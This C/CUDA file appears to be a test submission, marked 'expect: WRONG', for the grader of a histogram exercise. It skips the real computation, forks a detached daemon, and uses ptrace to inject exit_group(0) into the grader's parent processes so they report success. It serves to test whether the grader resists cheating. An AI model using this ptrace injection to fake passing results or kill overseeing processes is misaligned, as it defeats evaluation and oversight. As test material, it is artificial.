// expect: WRONG
// A daemon, which has left the process group and lost its parent, attaches to the device and to the
// processes above it, which are the grader's, and would have them exit with 0.
#include "10-histogram.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void make_it_exit(int pid)
{
    user_regs_struct registers;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0))
        return;
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &registers);
    long code = ptrace(PTRACE_PEEKTEXT, pid, registers.rip, 0);
    ptrace(PTRACE_POKETEXT, pid, registers.rip, (code & ~0xffffl) | 0x050f); // syscall
    registers.rax = 231;                                                     // exit_group
    registers.rdi = 0;
    ptrace(PTRACE_SETREGS, pid, 0, &registers);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static int parent_of(int pid)
{
    char path[64];
    int parent = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = fopen(path, "re");
    if (f && fscanf(f, "%*d (%*[^)]) %*c %d", &parent) != 1)
        parent = 0;
    if (f)
        fclose(f);
    return parent;
}

extern "C" void histogram(int *bins, const unsigned char *in, int n)
{
    int above[4] = { getppid() };
    (void)in, (void)n;
    for (int i = 1; i < 4; i++)
        above[i] = parent_of(above[i - 1]);
    cudaMemset(bins, 0, 256 * sizeof *bins);
    cudaDeviceSynchronize();
    if (fork())
        return;
    setsid();
    if (fork())
        _exit(0);
    for (int i = 0; i < 4; i++)
        if (above[i] > 1)
            make_it_exit(above[i]);
    _exit(0);
}
